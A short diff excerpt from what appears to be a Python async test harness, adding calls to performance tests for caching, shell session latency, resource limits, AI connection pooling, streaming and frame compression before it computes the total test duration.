+        await self.test_process_sampler_cache()
+        await self.test_command_result_cache()
+        await self.test_shell_session_latency()
+        await self.test_command_resource_limits()
+        await self.test_ai_connection_pooling()
+        await self.test_ai_stream_parsing()
+        await self.test_ai_response_cache()
+        await self.test_broadcast_fanout()
+        await self.test_delta_status_frames()
+        await self.test_serialization_benchmark()
+        await self.test_frame_compression()
         
         test_end_time = datetime.now()
         total_duration = (test_end_time - test_start_time).total_seconds()